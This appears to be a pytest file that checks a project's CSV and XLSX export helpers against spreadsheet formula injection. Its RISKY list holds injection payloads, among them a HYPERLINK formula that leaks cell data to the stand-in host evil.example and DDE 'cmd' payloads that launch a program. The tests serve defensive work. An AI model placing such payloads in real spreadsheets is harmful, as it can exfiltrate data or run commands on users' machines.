"""A person's text in a spreadsheet or CSV file is text, never a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from kopiena.core.spreadsheets import csv_value, xlsx_append

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", RISKY)
def test_csv_cell_starting_like_a_formula_gets_an_apostrophe(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_value(text)])
    [row] = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + text]


def test_csv_keeps_numbers_and_ordinary_text():
    assert csv_value(-5) == -5
    assert csv_value(3.5) == 3.5
    assert csv_value(None) is None
    assert csv_value("Ķekavas novads") == "Ķekavas novads"
    assert csv_value("a=b") == "a=b"


@pytest.mark.parametrize("write_only", [False, True], ids=["workbook", "write-only"])
def test_xlsx_cell_starting_like_a_formula_is_stored_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Atbildes") if write_only else workbook.active
    for text in RISKY:
        xlsx_append(sheet, [text, -5, 2.5, "parasts teksts"])
    out = io.BytesIO()
    workbook.save(out)

    read = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    for row, text in zip(read.iter_rows(), RISKY, strict=True):
        assert row[0].value == text, "the text as typed, no apostrophe added"
        assert row[0].data_type == "s", "a string, not a formula"
        assert row[0].quotePrefix, "stays text when someone edits the cell"
        assert (row[1].value, row[1].data_type) == (-5, "n"), "numbers stay numbers"
        assert (row[2].value, row[2].data_type) == (2.5, "n")
        assert row[3].value == "parasts teksts" and not row[3].quotePrefix
